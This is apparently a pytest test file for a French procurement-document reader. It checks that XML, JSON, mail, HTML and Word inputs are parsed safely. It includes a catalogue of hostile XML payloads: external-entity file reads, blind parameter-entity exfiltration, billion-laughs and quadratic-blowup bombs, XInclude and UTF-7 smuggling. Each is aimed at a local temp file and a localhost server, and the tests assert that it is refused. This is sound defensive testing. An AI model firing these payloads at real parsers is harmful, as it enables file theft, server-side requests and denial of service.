"""XML files: prose is read, data is refused, and what could reach beyond the file never gets a parser's help."""

from __future__ import annotations

import socket
from collections.abc import Iterator
from pathlib import Path

import pytest

from clausecheck.intake import ReadResult, read_bytes
from clausecheck.model.limits import Limits
from clausecheck.readers.settings import ReadSettings

PROSE = "Le titulaire fournit des pièces détachées pendant une durée de dix ans à compter de la livraison."
SECRET = "SECRET-DU-POSTE"
UBL = "urn:oasis:names:specification:ubl:schema:xsd:"


def codes(result: ReadResult) -> list[str]:
    return [problem.code for _, problem in result.unread]


def xml(body: str, root: str = "piece", encoding: str = "utf-8") -> bytes:
    return f'<?xml version="1.0" encoding="{encoding}"?><{root}>{body}</{root}>'.encode(encoding)


def test_prose_is_read_and_short_values_keep_their_names(make) -> None:
    document = read_bytes("a.xml", xml(f"<dureeMois>48</dureeMois><texte>{PROSE}</texte><texte>{PROSE} <b>Bis.</b> Fin.</texte>")).documents[0]  # fmt: skip
    assert document.text == f"duree Mois : 48\n{PROSE}\n{PROSE} Bis. Fin.\n"
    assert document.media_type == "application/xml"
    make.check_invariants(document)


@pytest.mark.parametrize(
    "body",
    [
        "<v>1</v>" * 200,
        "",
        f"<texte>{PROSE[:60]}</texte>",
        f"<t>{PROSE}</t><t>{PROSE}</t>" + "<v>4815162342</v>" * 60,
    ],
)
def test_data_without_prose_are_refused(body: str) -> None:
    assert codes(read_bytes("a.xml", xml(body))) == ["unsupported_format"]


@pytest.mark.parametrize(
    "encoding", ["utf-8", "utf-16", "utf-16-le", "utf-32", "iso-8859-1", "windows-1252", "cp850"]
)
def test_every_encoding_is_read(encoding: str) -> None:
    document = read_bytes("a.xml", xml(f"<texte>{PROSE}</texte>" * 2, encoding=encoding)).documents[0]
    assert document.text == f"{PROSE}\n{PROSE}\n"


def test_damaged_xml_is_said_to_be_so() -> None:
    assert codes(read_bytes("a.xml", xml(f"<texte>{PROSE}")[:-9])) == ["damaged_file"]


def test_elements_past_the_limit_are_refused_by_its_name() -> None:
    result = read_bytes("a.xml", xml("<v>1</v>" * 50), settings=ReadSettings(limits=Limits(xml_elements=10)))
    assert codes(result) == ["too_large"]
    assert "CLAUSECHECK_LIMIT_XML_ELEMENTS" in result.unread[0][1].message


def test_essential_data_of_a_contract_are_read(make) -> None:
    body = (
        "<marche><id>2026-014</id><acheteur><id>21660049000013</id></acheteur><objet>Maintenance des copieurs</objet>"
        "<codeCPV>50313000</codeCPV><considerationsEnvironnementales><considerationEnvironnementale>Clause environnementale"
        "</considerationEnvironnementale><considerationEnvironnementale>Critère environnemental</considerationEnvironnementale>"
        "</considerationsEnvironnementales><marcheInnovant>non</marcheInnovant></marche>"
    )
    document = read_bytes("decp.xml", xml(body, "marches")).documents[0]
    assert document.text == (
        "Données essentielles du marché public\nIdentifiant du marché : 2026-014\nIdentifiant de l’acheteur : 21660049000013\n"
        "Objet du marché : Maintenance des copieurs\nCode CPV : 50313000\n"
        "Considérations environnementales : Clause environnementale, Critère environnemental\nMarché innovant : non\n"
    )
    make.check_invariants(document)
    assert codes(read_bytes("decp.xml", xml(body * 21, "marches"))) == ["unsupported_format"]


# What hostile XML does: each of these through each door.

PAYLOADS = {
    "file entity": '<!DOCTYPE r [<!ENTITY x SYSTEM "file://{file}">]><r>&x;</r>',
    "http entity": '<!DOCTYPE r [<!ENTITY x SYSTEM "{url}/x">]><r>&x;</r>',
    "ftp entity": '<!DOCTYPE r [<!ENTITY x SYSTEM "ftp://127.0.0.1:{port}/x">]><r>&x;</r>',
    "public entity": '<!DOCTYPE r [<!ENTITY x PUBLIC "-//X//Y" "{url}/x">]><r>&x;</r>',
    "external DTD": '<!DOCTYPE r SYSTEM "{url}/x.dtd"><r>mot</r>',
    "external DTD on disk": '<!DOCTYPE r SYSTEM "file://{file}"><r>mot</r>',
    "public DTD": '<!DOCTYPE r PUBLIC "-//X//Y" "{url}/x.dtd"><r>mot</r>',
    "parameter entity": '<!DOCTYPE r [<!ENTITY % p SYSTEM "{url}/x.dtd">%p;]><r>mot</r>',
    "blind parameter entities": '<!DOCTYPE r [<!ENTITY % f SYSTEM "file://{file}"><!ENTITY % e "<!ENTITY &#37; s SYSTEM \'{url}/%f;\'>">%e;%s;]><r>mot</r>',
    "error with content": '<!DOCTYPE r [<!ENTITY % f SYSTEM "file://{file}"><!ENTITY % e "<!ENTITY &#37; s SYSTEM \'file:///x/%f;\'>">%e;%s;]><r/>',
    "billion laughs": "<!DOCTYPE r [<!ENTITY a 'ha'>" + "".join(f"<!ENTITY {chr(98 + n)} '{f'&{chr(97 + n)};' * 10}'>" for n in range(9)) + "]><r>&j;</r>",
    "quadratic blowup": "<!DOCTYPE r [<!ENTITY a '" + "A" * 50_000 + "'>]><r>" + "&a;" * 50_000 + "</r>",
    "laughs in an attribute": "<!DOCTYPE r [<!ENTITY a 'ha'>" + "".join(f"<!ENTITY {chr(98 + n)} '{f'&{chr(97 + n)};' * 10}'>" for n in range(9)) + "]><r v='&j;'/>",
    "laughs of parameters": "<!DOCTYPE r [<!ENTITY % a 'ha'><!ENTITY % b '&#37;a;&#37;a;&#37;a;'>%b;]><r/>",
    "entity that names itself": "<!DOCTYPE r [<!ENTITY a '&b;'><!ENTITY b '&a;'>]><r>&a;</r>",
    "default attribute": '<!DOCTYPE r [<!ATTLIST r v CDATA "mot"><!NOTATION n SYSTEM "{url}">]><r/>',
    "unparsed entity": '<!DOCTYPE r [<!NOTATION n SYSTEM "{url}"><!ENTITY x SYSTEM "{url}/x.gif" NDATA n>]><r/>',
    "empty document type": "<!DOCTYPE r><r>mot</r>",
    "after comments": '<!-- a --><?x y?><!-- b -->\n<!DOCTYPE r [<!ENTITY x SYSTEM "file://{file}">]><r>&x;</r>',
    "jar and php addresses": '<!DOCTYPE r [<!ENTITY x SYSTEM "php://filter/resource={file}"><!ENTITY y SYSTEM "jar:{url}!/x">]><r>&x;&y;</r>',
}  # fmt: skip
NO_TYPE = {
    "XInclude": '<r xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file://{file}" parse="text"/></r>',
    "XInclude of an address": '<r xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="{url}/x"/></r>',
    "style sheet": '<?xml-stylesheet type="text/xsl" href="{url}/x.xsl"?><r>mot</r>',
    "schema": '<r xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="a {url}/x.xsd">mot</r>',
}
DECLARED = '<?xml version="1.0" encoding="{}"?>'


@pytest.fixture
def beyond(tmp_path: Path) -> Iterator[dict[str, str]]:
    """Give a file and an address that a parser could be led to; a connection to the address is a fault."""
    (tmp_path / "secret.txt").write_text(SECRET)
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.setblocking(False)
        port = str(server.getsockname()[1])
        yield {"file": str(tmp_path / "secret.txt"), "url": f"http://127.0.0.1:{port}", "port": port}
        with pytest.raises(BlockingIOError):
            server.accept()


def filled(payload: str, beyond: dict[str, str]) -> str:
    for name, value in beyond.items():
        payload = payload.replace(f"{{{name}}}", value)
    return payload


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-32", "iso-8859-1"])
@pytest.mark.parametrize("name", PAYLOADS)
def test_a_document_type_is_refused_in_any_encoding(name: str, encoding: str, beyond: dict[str, str]) -> None:
    text = DECLARED.format(encoding.removesuffix("-sig")) + filled(PAYLOADS[name], beyond)
    result = read_bytes("a.xml", text.encode(encoding))
    assert codes(result) == ["unsafe_xml"]
    assert SECRET not in repr(result)


@pytest.mark.parametrize("name", PAYLOADS)
@pytest.mark.parametrize("door", ["notice", "contracts", "mail", "page", "word"])
def test_a_document_type_is_refused_at_every_door(make, name: str, door: str, beyond: dict[str, str]) -> None:
    text = filled(PAYLOADS[name], beyond)
    head = DECLARED.format("utf-8")
    if door == "notice":
        text = text.replace("<r>", f'<ContractNotice xmlns="{UBL}ContractNotice-2">').replace(
            "</r>", "</ContractNotice>"
        )
        result = read_bytes("a.xml", (head + text).encode())
    elif door == "contracts":
        result = read_bytes("a.xml", (head + text.replace("r>", "marches>")).encode())
    elif door == "mail":
        mail = f"From: a@b.fr\nTo: c@d.fr\nSubject: x\nContent-Type: multipart/mixed; boundary=b\n\n--b\n\nUn texte.\n--b\nContent-Type: application/xml; name=a.xml\n\n{head}{text}\n--b--\n"  # fmt: skip
        result = read_bytes("m.eml", mail.encode())
    elif door == "page":
        result = read_bytes("a.html", (text.replace("<r", "<html").replace("</r>", "</html>")).encode())
        assert set(codes(result)) <= {"unsafe_xml"}
        assert SECRET not in repr(result)
        assert sum(len(document.text) for document in result.documents) < 1_000
        return
    else:
        result = read_bytes("a.docx", make.zipped(("[Content_Types].xml", b"<Types/>"), ("_rels/.rels", (head + text).encode()), ("word/document.xml", (head + text).encode())))  # fmt: skip
    assert codes(result) == ["unsafe_xml"]
    assert SECRET not in repr(result)


@pytest.mark.parametrize("name", NO_TYPE)
def test_what_needs_no_document_type_is_not_followed_either(name: str, beyond: dict[str, str]) -> None:
    text = filled(NO_TYPE[name], beyond).replace("</r>", f"<texte>{PROSE}</texte><texte>{PROSE}</texte></r>")
    result = read_bytes("a.xml", (DECLARED.format("utf-8") + text).encode())
    assert SECRET not in repr(result)
    assert [PROSE in document.text for document in result.documents] == [True]


@pytest.mark.parametrize("declared", ["utf-7", "ebcdic-cp-fr", "cp037", "inconnu"])
def test_a_declared_encoding_hides_no_document_type(declared: str, beyond: dict[str, str]) -> None:
    text = filled(PAYLOADS["file entity"], beyond)
    hidden = text.replace("<", "+ADw-").replace("!", "+ACE-") if declared == "utf-7" else text
    result = read_bytes("a.xml", (DECLARED.format(declared) + hidden).encode())
    assert result.documents == ()
    assert codes(result) in (["unsafe_xml"], ["damaged_file"])


@pytest.mark.parametrize(
    ("data", "code"),
    [
        (b'{"marches": ', "damaged_file"), (b'{"a": 1}', "unsupported_format"), (b"[1, 2]", "unsupported_format"),
        (b'{"a":' * 100_000, "damaged_file"), (b'{"marches": {"marche": []}}', "unsupported_format"), (b"9" * 10_000, "damaged_file"),
    ],
)  # fmt: skip
def test_other_json_is_refused(data: bytes, code: str) -> None:
    assert codes(read_bytes("a.json", data)) == [code]


def test_essential_data_are_read_as_json_too() -> None:
    data = (
        '{"marches": {"marche": [{"id": "1", "objet": "Maintenance des copieurs", "marcheInnovant": false}]}}'
    )
    assert (
        read_bytes("decp.json", data.encode())
        .documents[0]
        .text.endswith(
            "Identifiant du marché : 1\nObjet du marché : Maintenance des copieurs\nMarché innovant : non\n"
        )
    )


def test_a_record_of_the_boamp_without_notice_gives_its_fields() -> None:
    data = '{"idweb": "26-1", "nomacheteur": "Ville de Céret", "objet": "Maintenance des copieurs", "criteres": ["environnementaux"]}'
    assert read_bytes("a.json", data.encode()).documents[0].text == (
        "Avis de marché\nAcheteur : Ville de Céret\nObjet du marché : Maintenance des copieurs\nNuméro de l’avis : 26-1\n"
        "Considérations déclarées : environnementaux\n"
    )
